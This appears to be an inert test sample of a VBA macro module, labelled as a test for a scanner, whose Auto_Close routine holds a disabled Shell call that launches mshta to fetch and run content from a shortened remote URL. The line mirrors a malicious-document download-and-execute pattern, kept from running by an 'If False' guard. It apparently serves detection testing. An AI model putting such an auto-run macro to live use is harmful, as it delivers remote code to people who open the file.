Attribute VB_Name = "Module1"
' INERT SEKISHO TEST
Sub Auto_Close()
If False Then Shell "mshta http://1234567890@j.mp/inertinert"
End Sub
